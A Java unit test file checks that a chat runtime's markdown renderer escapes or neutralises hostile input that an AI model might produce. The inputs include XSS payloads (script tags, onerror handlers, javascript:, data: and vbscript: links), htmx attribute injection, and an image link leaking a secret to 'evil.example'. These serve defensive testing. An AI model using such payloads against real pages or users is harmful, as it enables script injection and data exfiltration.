package agento.runtime.chat;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownRendererTest {

    private final MarkdownRenderer markdown = new MarkdownRenderer();

    @Test
    void markdown_becomes_html() {
        assertThat(markdown.render("# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n"))
                .isEqualTo("<h1>Title</h1>\n<p>Some <strong>bold</strong> and <code>code</code>.</p>\n"
                        + "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n");
    }

    @Test
    void a_script_tag_comes_out_as_text() {
        assertThat(markdown.render("<script>alert(1)</script>"))
                .isEqualTo("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n");
    }

    @Test
    void an_image_tag_with_an_event_handler_comes_out_as_text() {
        assertThat(markdown.render("<img src=x onerror=alert(1)>"))
                .isEqualTo("<p>&lt;img src=x onerror=alert(1)&gt;</p>\n");
    }

    @Test
    void htmx_attributes_typed_by_the_model_are_inert_text() {
        String html = markdown.render("<div hx-get=\"/x\" hx-trigger=\"load\">boo</div>");

        assertThat(html).isEqualTo(
                "<p>&lt;div hx-get=&quot;/x&quot; hx-trigger=&quot;load&quot;&gt;boo&lt;/div&gt;</p>\n");
        assertThat(html).doesNotContain("<div");
    }

    @ParameterizedTest
    @ValueSource(strings = {"[x](javascript:alert(1))", "[x](JavaScript:alert(1))", "[x]( javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))", "<javascript:alert(1)>"})
    void a_dangerous_link_loses_its_target(String link) {
        String html = markdown.render(link);

        assertThat(html).contains("href=\"\"")
                .doesNotContainPattern("(?i)(href|src)=\"\\s*(javascript|data|vbscript):");
    }

    @Test
    void a_javascript_link_keeps_its_text_but_not_its_target() {
        assertThat(markdown.render("[x](javascript:alert(1))"))
                .isEqualTo("<p><a rel=\"noopener nofollow\" href=\"\">x</a></p>\n");
    }

    @Test
    void a_normal_link_gets_rel_noopener_nofollow() {
        assertThat(markdown.render("See [the docs](https://example.com/a?b=1&c=2 \"Docs\")."))
                .isEqualTo("<p>See <a rel=\"noopener nofollow\" href=\"https://example.com/a?b=1&amp;c=2\" "
                        + "title=\"Docs\">the docs</a>.</p>\n");
    }

    @Test
    void a_fenced_code_block_keeps_its_text_escaped() {
        assertThat(markdown.render("```html\n<b>bold</b> & more\n```\n"))
                .isEqualTo("<pre><code class=\"language-html\">&lt;b&gt;bold&lt;/b&gt; &amp; more\n</code></pre>\n");
    }

    @Test
    void a_code_fence_info_string_cannot_break_out_of_its_class_attribute() {
        String html = markdown.render("```x\" hx-get=\"/steal\n code\n```\n");

        assertThat(html).startsWith("<pre><code class=\"language-x&quot;\">");
        assertThat(html).doesNotContain("hx-get=\"");
    }

    @Test
    void an_image_becomes_a_link_so_nothing_loads_by_itself() {
        assertThat(markdown.render("![the *chart*](https://evil.example/leak?q=secret)"))
                .isEqualTo("<p><a href=\"https://evil.example/leak?q=secret\" rel=\"noopener nofollow\">"
                        + "the <em>chart</em></a></p>\n");
        assertThat(markdown.render("![](javascript:alert(1))"))
                .isEqualTo("<p><a href=\"\" rel=\"noopener nofollow\">image</a></p>\n");
    }

    @Test
    void a_link_title_cannot_add_attributes() {
        assertThat(markdown.render("[x](https://example.com \"a\\\" hx-get=\\\"/x\")"))
                .contains("title=\"a&quot; hx-get=&quot;/x\"");
    }

    @Test
    void nothing_renders_as_nothing() {
        assertThat(markdown.render(null)).isEmpty();
        assertThat(markdown.render("")).isEmpty();
    }
}
